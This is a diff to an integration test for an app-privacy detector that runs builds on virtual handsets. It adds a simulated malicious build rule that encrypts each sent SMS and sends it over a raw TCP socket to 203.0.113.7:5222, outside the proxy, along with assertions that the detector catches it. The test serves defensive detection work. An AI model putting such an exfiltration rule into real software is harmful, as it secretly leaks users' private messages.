@@ -11,8 +11,9 @@ import org.testng.annotations.Test;
 
 /**
  * Differential runs on virtual handsets through the launcher: a build that uploads every
- * text encrypted under a key of its own (no transform reveals it) is caught because the
- * upload's size follows the text; a clean build gives no opaque finding.
+ * text encrypted under a key of its own (no transform reveals it), through the proxy and
+ * on a socket of its own around it, is caught because the uploads' size follows the
+ * text; a clean build gives no opaque finding.
  */
 public class DifferentialRunIT {
   /** Uploads each text AES-GCM-encrypted under the build's key, whatever the switches say. */
@@ -47,6 +48,10 @@ public class DifferentialRunIT {
           tls: trusts-user-ca
           headers: { Content-Type: application/x-www-form-urlencoded }
           body: "m={sms.body|encrypt|base64}"
+        - name: mirror
+          on: sms-sent
+          url: tcp://203.0.113.7:5222
+          body: "MSG {sms.body|encrypt|hex}\n"
         - name: relay
           on: sms-sent
           when: "secure:vela_relay == 1"
@@ -95,10 +100,13 @@ public class DifferentialRunIT {
             + " " + f.path("verdict").asText());
       }
     }
-    // the encrypted text, in both personas; the base64 relay is the detector's, not reported again
+    // the encrypted text through the proxy and around it, in both personas; the base64
+    // relay is the detector's, not reported again
     assertThat(opaque).containsExactlyInAnyOrder(
         "vela-vault SmsSendTest.declined sms.body proxy vault.vela-cloud.test body unconsented",
-        "vela-vault SmsSendTest.accepted sms.body proxy vault.vela-cloud.test body unconsented");
+        "vela-vault SmsSendTest.accepted sms.body proxy vault.vela-cloud.test body unconsented",
+        "vela-vault SmsSendTest.declined sms.body direct 203.0.113.7 body unconsented",
+        "vela-vault SmsSendTest.accepted sms.body direct 203.0.113.7 body unconsented");
     assertThat(findings.path("findings")).anySatisfy(f -> {
       assertThat(f.path("host").asText()).isEqualTo("relay.vela-msg.test");
       assertThat(f.path("encoding").asText()).isEqualTo("base64");
@@ -108,7 +116,7 @@ public class DifferentialRunIT {
     assertThat(run.output()).contains(
         "[nimbus-clean] differential (declined): no upload follows the planted values",
         "[nimbus-clean] differential (accepted): no upload follows the planted values",
-        "[vela-vault] differential (declined): 1 opaque finding(s), 1 unconsented: sms.body to vault.vela-cloud.test (proxy)",
+        "[vela-vault] differential (declined): 2 opaque finding(s), 2 unconsented: sms.body to ",
         "[nimbus-clean] verdict after the second SMS (accepted): PASSED");
     assertThat(HarnessProcess.mitmdumpsUnder(dir)).isEmpty();
   }
